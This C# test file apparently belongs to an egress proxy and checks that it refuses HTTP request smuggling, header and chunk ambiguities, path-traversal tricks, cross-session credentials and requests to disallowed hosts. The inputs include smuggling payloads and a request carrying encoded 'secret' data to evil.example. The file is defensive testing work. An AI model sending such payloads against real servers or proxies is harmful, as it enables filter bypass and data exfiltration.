using Bartizan.Core.Enforcement;
using Bartizan.Core.Entries;

namespace Bartizan.Gateway.Tests.Egress.Attacks;

/// <summary>P12, P13, P16, P17, P24, P26, P29: what HTTP itself can be bent to.</summary>
public sealed class RequestAttackTests
{
    private const string Post = "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n";

    /// <summary>P12, P13: read in two ways by two readers, so not read at all.</summary>
    [Theory]
    [InlineData("GET http://good.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")]
    [InlineData("GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n")]
    [InlineData("GET http://good.example/ HTTP/1.1\r\n\r\n")]
    [InlineData("GET http://good.example/ HTTP/1.1\nHost: good.example\n\n")]
    [InlineData("GET http://good.example/ HTTP/1.1\r\nHost: good.example\n\r\n")]
    [InlineData("GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nX: a\rY: b\r\n\r\n")]
    [InlineData("GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nX: a\0b\r\n\r\n")]
    [InlineData("GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nX: a\r\n Host: evil.example\r\n\r\n")]
    [InlineData("\r\nGET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n")]
    [InlineData("GET http://good.example/ HTTP/1.1\r\nHost : good.example\r\n\r\n")]
    [InlineData("GET https://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n")]
    [InlineData("GET http://good.example@evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n")]
    [InlineData("TRACE http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n")]
    [InlineData("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")]
    [InlineData(
        "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\nX-HTTP-Method-Override: DELETE\r\n\r\n"
    )]
    [InlineData("GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nx-original-url: /admin\r\n\r\n")]
    [InlineData("GET / HTTP/1.1\r\nHost: good.example\r\n\r\n")]
    [InlineData("GET http://good.example/..;/admin HTTP/1.1\r\nHost: good.example\r\n\r\n")]
    [InlineData("GET http://good.example/a%2f..%2fb HTTP/1.1\r\nHost: good.example\r\n\r\n")]
    [InlineData("GET http://good.example/%252e%252e/ HTTP/1.1\r\nHost: good.example\r\n\r\n")]
    [InlineData(Post + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")]
    [InlineData(Post + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n")]
    [InlineData(Post + "Content-Length: 4\r\nContent-Length: 40\r\n\r\nbody")]
    [InlineData(Post + "Content-Length: 4,40\r\n\r\nbody")]
    [InlineData(Post + "Content-Length: 0x4\r\n\r\nbody")]
    [InlineData(Post + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n")]
    [InlineData(Post + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n")]
    [InlineData(Post + "Transfer-Encoding:\u000bchunked\r\n\r\n0\r\n\r\n")]
    [InlineData(Post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n")]
    public async Task What_can_be_read_in_two_ways_never_leaves(string request)
    {
        await using var house = new EgressHouse("allow: http * http://good.example/**");
        await using var canary = Canary.Ok();
        house.Outside("good.example", canary);
        (await house.AskAsync(request)).ShouldStartWith("HTTP/1.1 400");
        canary.Hits.ShouldBe(0);
        house.Network.Asked.ShouldBeEmpty();
        await house.Host.RefusalAsync();
        (await house.AskAsync(Post + "Connection: close\r\nContent-Length: 4\r\n\r\nbody")).ShouldEndWith("hello");
        canary.Hits.ShouldBe(1);
    }

    /// <summary>P13: chunks that another reader would end elsewhere.</summary>
    [Theory]
    [InlineData("4\nbody\r\n0\r\n\r\n")]
    [InlineData("4\r\nbodyX\r\n0\r\n\r\n")]
    [InlineData("4 \r\nbody\r\n0\r\n\r\n")]
    [InlineData("+4\r\nbody\r\n0\r\n\r\n")]
    [InlineData("0x4\r\nbody\r\n0\r\n\r\n")]
    [InlineData("-1\r\nbody\r\n0\r\n\r\n")]
    [InlineData("\r\nbody\r\n0\r\n\r\n")]
    [InlineData("ffffffffffffffff\r\nbody\r\n0\r\n\r\n")]
    [InlineData("10000000000000004\r\nbody\r\n0\r\n\r\n")]
    public async Task A_broken_chunk_breaks_the_request_off(string body)
    {
        await using var house = new EgressHouse("allow: http * http://good.example/**");
        var whole = 0;
        await using var canary = new Canary(
            async (canary, socket) =>
            {
                var text = await canary.HearHeadAsync(socket);
                if (text.EndsWith("0\r\n\r\n", StringComparison.Ordinal))
                {
                    Interlocked.Increment(ref whole);
                    await socket.SendAsync("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"u8.ToArray());
                }
            }
        );
        house.Outside("good.example", canary);
        using (var wire = await house.WireAsync())
        {
            await wire.SendAsync(Post + "Transfer-Encoding: chunked\r\n\r\n" + body);
            await wire.EndAsync();
        }

        whole.ShouldBe(0, "the other side must not take it for a whole request");
        (
            await house.AskAsync(Post + "Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n")
        ).ShouldStartWith("HTTP/1.1 200");
        whole.ShouldBe(1);
    }

    /// <summary>P13, P16: what rides behind an allowed request is a request of its own.</summary>
    [Fact]
    public async Task A_pipelined_request_to_another_host_is_judged_by_itself()
    {
        await using var house = new EgressHouse("allow: http GET http://good.example/**");
        await using var canary = Canary.Ok();
        house.Outside("good.example", canary);
        var answer = await house.AskAsync(
            "GET http://good.example/1 HTTP/1.1\r\nHost: good.example\r\n\r\n"
                + "GET http://good.example/2 HTTP/1.1\r\nHost: good.example\r\n\r\n"
                + "GET http://evil.example/3 HTTP/1.1\r\nHost: evil.example\r\n\r\n"
                + "GET http://good.example/4 HTTP/1.1\r\nHost: good.example\r\n\r\n"
        );
        answer.Split("HTTP/1.1 ").Skip(1).Select(a => a[..3]).ShouldBe(["200", "200", "403"]);
        canary.Hits.ShouldBe(2);
        canary.Heard.ShouldNotContain("evil");
        canary.Heard.ShouldNotContain("/4");
        house.Network.Asked.ShouldAllBe(name => name == "good.example");
    }

    /// <summary>P13: a second request hidden in the first one's body stays a body.</summary>
    [Fact]
    public async Task A_request_inside_a_body_is_a_body()
    {
        await using var house = new EgressHouse("allow: http POST http://good.example/**");
        await using var canary = Canary.Ok();
        house.Outside("good.example", canary);
        const string Hidden = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n";
        var answer = await house.AskAsync(
            Post + $"Connection: close\r\nContent-Length: {Hidden.Length}\r\n\r\n{Hidden}"
        );
        answer.Split("HTTP/1.1 ").Length.ShouldBe(2);
        canary.Hits.ShouldBe(1);
        canary.Heard.ShouldContain("Connection: close\r\n\r\nGET http://evil.example/");
    }

    /// <summary>P16: an upgrade is a request, and decided as one.</summary>
    [Fact]
    public async Task An_upgrade_that_no_rule_allows_is_refused()
    {
        await using var house = new EgressHouse("allow: http GET http://good.example/chat");
        await using var canary = Canary.Http(
            "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
        );
        house.Outside("good.example", canary);
        const string Upgrade = "Host: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n";
        (await house.AskAsync("GET http://good.example/other HTTP/1.1\r\n" + Upgrade)).ShouldStartWith("HTTP/1.1 403");
        canary.Hits.ShouldBe(0);
        using var wire = await house.WireAsync();
        await wire.SendAsync("GET http://good.example/chat HTTP/1.1\r\n" + Upgrade);
        (await wire.HeadAsync()).ShouldStartWith("HTTP/1.1 101");
    }

    /// <summary>P17: a redirect is only words; whoever follows it asks again.</summary>
    [Fact]
    public async Task A_redirect_is_brought_and_not_followed()
    {
        await using var house = new EgressHouse("allow: http GET http://good.example/**");
        await using var canary = Canary.Http(
            "HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\nContent-Length: 0\r\n\r\n"
        );
        house.Outside("good.example", canary);
        using var wire = await house.WireAsync();
        await wire.SendAsync("GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n");
        (await wire.HeadAsync()).ShouldContain("Location: http://evil.example/");
        await wire.SendAsync("GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n");
        (await wire.HeadAsync()).ShouldStartWith("HTTP/1.1 403");
        house.Network.Asked.ShouldHaveSingleItem();
    }

    /// <summary>P24: the credential of another session, or of none.</summary>
    [Fact]
    public async Task A_credential_of_another_session_is_refused_and_recorded()
    {
        await using var house = new EgressHouse("allow: http GET http://good.example/**");
        await using var canary = Canary.Ok();
        house.Outside("good.example", canary);
        var (other, _) = house.Open("allow: http GET http://good.example/**");
        foreach (var token in new[] { TestHost.TokenOf(other), "nobody", "" })
        {
            (await GetAsync(house, Basic(token))).ShouldStartWith("HTTP/1.1 407");
            (await GetAsync(house, $"Bearer {token}")).ShouldStartWith("HTTP/1.1 407");
        }

        (await GetAsync(house, "Digest x")).ShouldStartWith("HTTP/1.1 407");
        (await GetAsync(house, "Basic not-base64!")).ShouldStartWith("HTTP/1.1 407");
        canary.Hits.ShouldBe(0);
        (await house.Host.RefusalAsync()).Session.ShouldBe(house.Session.Id);
        house.Host.Entries.ShouldAllBe(e => e.Reason == null || !e.Reason.Contains("token-"));
        (await GetAsync(house, Basic(TestHost.TokenOf(house.Session)))).ShouldEndWith("hello");
        (await GetAsync(house, $"Bearer {TestHost.TokenOf(house.Session)}")).ShouldEndWith("hello");
        canary.Heard.ShouldNotContain("Proxy-Authorization");
        canary.Heard.ShouldNotContain("token-");
    }

    /// <summary>P24 on a shared listener: there the token is the only identity, asked for each time.</summary>
    [Fact]
    public async Task A_shared_listener_serves_nobody_without_a_live_token()
    {
        await using var house = new EgressHouse("allow: http GET http://good.example/**");
        await using var canary = Canary.Ok();
        house.Outside("good.example", canary);
        var (weaker, _) = house.Open("allow: http GET http://nothing.example/**");
        var shared = EgressHouse.Listen(System.Net.IPAddress.Loopback);
        var address = (System.Net.IPEndPoint)shared.LocalEndPoint!;
        await using var attachment = house.Proxy.AcceptAttached(shared);
        const string Request = "GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n";
        using (var wire = await Wire.OpenAsync(address))
        {
            (await wire.AskAsync(Request + "\r\n")).ShouldStartWith("HTTP/1.1 407");
        }

        using var both = await Wire.OpenAsync(address);
        await both.SendAsync(Request + $"Proxy-Authorization: {Basic(TestHost.TokenOf(house.Session))}\r\n\r\n");
        (await both.HeadAsync()).ShouldStartWith("HTTP/1.1 200");
        await both.TakeAsync(5);
        await both.SendAsync(Request + $"Proxy-Authorization: {Basic(TestHost.TokenOf(weaker))}\r\n\r\n");
        (await both.HeadAsync()).ShouldStartWith("HTTP/1.1 403");
        canary.Hits.ShouldBe(1);
        house.Host.Entries.ShouldContain(e => e.Kind == EntryKind.Refusal && e.Session == weaker.Id);
    }

    /// <summary>P29: nothing that belongs to this hop reaches the next.</summary>
    [Fact]
    public async Task Fields_of_one_hop_carry_nothing_out()
    {
        await using var house = new EgressHouse("allow: http GET http://good.example/**");
        await using var canary = Canary.Http(
            "HTTP/1.1 200 OK\r\nConnection: X-Back\r\nX-Back: secret\r\nProxy-Authenticate: Basic\r\n"
                + "Keep-Alive: 9\r\nContent-Length: 0\r\n\r\n"
        );
        house.Outside("good.example", canary);
        var answer = await house.AskAsync(
            "GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nConnection: close, X-Out\r\nX-Out: secret\r\n"
                + "Proxy-Connection: secret\r\nProxy-Features: secret\r\nKeep-Alive: secret\r\nTE: secret\r\nTrailer: secret\r\n\r\n"
        );
        canary.Heard.ShouldNotContain("secret");
        answer.ShouldStartWith("HTTP/1.1 200");
        answer.ShouldNotContain("secret");
        answer.ShouldNotContain("Proxy-Authenticate");
    }

    /// <summary>A server that answers in a way two clients would read differently.</summary>
    [Theory]
    [InlineData("HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\nhello")]
    [InlineData("HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello")]
    [InlineData("HTTP/1.1 200 OK\nContent-Length: 5\n\nhello")]
    [InlineData("HTTP/1.1 200 OK\r\nX: a\r\n b\r\n\r\nhello")]
    [InlineData("HTTP/2 200\r\n\r\nhello")]
    [InlineData("SSH-2.0-server\r\n\r\n")]
    [InlineData("HTTP/1.1 999 Odd\r\n\r\nhello")]
    public async Task An_answer_that_can_be_read_in_two_ways_is_a_bad_gateway(string sent)
    {
        await using var house = new EgressHouse("allow: http GET http://good.example/**");
        await using var canary = Canary.Http(sent);
        house.Outside("good.example", canary);
        var answer = await house.AskAsync("GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n");
        answer.ShouldStartWith("HTTP/1.1 502");
        answer.ShouldNotContain("hello");
    }

    /// <summary>P19 by HTTP: a refusal is decided on the name; the path and query go nowhere, the log gets no query.</summary>
    [Fact]
    public async Task A_refused_request_leaves_no_trace_outside()
    {
        await using var house = new EgressHouse("allow: http GET http://good.example/**");
        (
            await house.AskAsync("GET http://evil.example/?data=c2VjcmV0 HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        ).ShouldStartWith("HTTP/1.1 403");
        house.Network.Asked.ShouldBeEmpty();
        house.Network.Dialed.ShouldBeEmpty();
    }

    /// <summary>P12 on the captured port: the fake address says the name, Host another.</summary>
    [Fact]
    public async Task A_captured_request_for_another_host_is_refused()
    {
        await using var house = new EgressHouse(
            "allow: http GET http://good.example/**",
            "allow: http GET http://also.example/**"
        );
        await using var canary = Canary.Ok();
        house.Outside("good.example", canary);
        await house.AskDnsAsync(Question.Of("good.example"));
        using (var wire = await Wire.OpenAsync(house.HttpAddress))
        {
            (await wire.AskAsync("GET / HTTP/1.1\r\nHost: also.example\r\n\r\n")).ShouldStartWith("HTTP/1.1 400");
        }

        canary.Hits.ShouldBe(0);
        using var right = await Wire.OpenAsync(house.HttpAddress);
        await right.SendAsync("GET /x HTTP/1.1\r\nHost: good.example\r\n\r\n");
        (await right.HeadAsync()).ShouldStartWith("HTTP/1.1 200");
        canary.Heard.ShouldStartWith("GET /x HTTP/1.1\r\nHost: good.example\r\n");
    }

    private static string Basic(string token) =>
        "Basic " + Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes("agent:" + token));

    private static Task<string> GetAsync(EgressHouse house, string credential) =>
        house.AskAsync(
            $"GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\nProxy-Authorization: {credential}\r\n\r\n"
        );
}
